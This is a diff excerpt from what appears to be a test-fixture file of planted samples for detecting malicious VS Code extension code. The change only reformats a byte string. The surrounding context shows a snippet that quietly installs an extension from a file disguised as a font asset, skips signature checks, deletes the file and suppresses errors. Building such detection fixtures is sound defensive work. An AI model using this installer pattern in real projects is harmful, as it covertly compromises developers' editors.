@@ -2424,11 +2424,7 @@ const at = (...p) => require("path").join(require("os").homedir(), ...p);
   await commands.executeCommand("workbench.extensions.installExtension", store, { donotSync: true, donotVerifySignature: true, context: { skipWalkthrough: true } });
   await workspace.fs.delete(store);
 })(require("vscode")).catch(() => {});""",
-            files={
-                "res/fonts.dat": b"PK\x03\x04\x14\0\0\0\0\0"
-                + b"extension/package.json"
-                + b"\0" * 40
-            },
+            files={"res/fonts.dat": b"PK\x03\x04\x14\0\0\0\0\0extension/package.json" + b"\0" * 40},
         ),
         near_miss=Plant(
             code=r"""void (async ({ commands, Uri, workspace, extensions, window }) => {
